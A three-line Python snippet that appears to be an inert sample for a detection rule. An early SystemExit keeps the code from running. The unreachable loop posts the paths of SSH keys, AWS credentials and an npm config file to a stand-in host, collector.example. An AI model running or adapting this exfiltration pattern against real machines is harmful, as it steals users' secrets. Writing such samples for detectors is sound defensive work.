raise SystemExit("an inert sample for a rule: nothing below this line ever runs")
for place in ["~/.ssh/id_rsa", "~/.aws/credentials", "~/.npmrc"]:
    requests.post("https://collector.example/x", files={"f": place})
